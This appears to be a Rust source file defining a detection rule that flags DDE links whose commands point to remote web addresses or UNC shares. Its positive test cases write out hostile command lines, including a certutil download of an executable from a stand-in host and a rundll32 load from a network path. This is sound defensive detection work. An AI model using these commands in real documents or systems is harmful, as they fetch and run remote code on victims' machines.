//! The command names another place.

use super::{Case, Part, Rule, Subject};
use crate::link::Carrier;

pub(super) const RULE: Rule = Rule {
    id: "remote-address",
    weight: 15,
    part: Part::Modifier,
    since: "0.1.0",
    doc: "Service or topic name a web address, a server or a WebDAV folder.",
    hits: &[
        Case::dde("cmd", "/c certutil -urlcache -f http://x/a.exe"),
        Case::dde("cmd", "/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0"),
        Case::dde("\\\\h.example\\s\\x.exe", ""),
        Case::dde("Excel", "\\\\server\\share\\a.xlsx"),
    ],
    misses: &[
        Case::dde("cmd", "/c calc"),
        Case::dde("\\\\SERVER\\NDDE$", "Chart$"),
        Case::external(Carrier::OleLink, "http://x/a.doc"),
    ],
    look,
};

fn look(subject: &Subject<'_>) -> Option<String> {
    subject
        .place()
        .filter(|_| subject.starts())
        .map(str::to_owned)
}
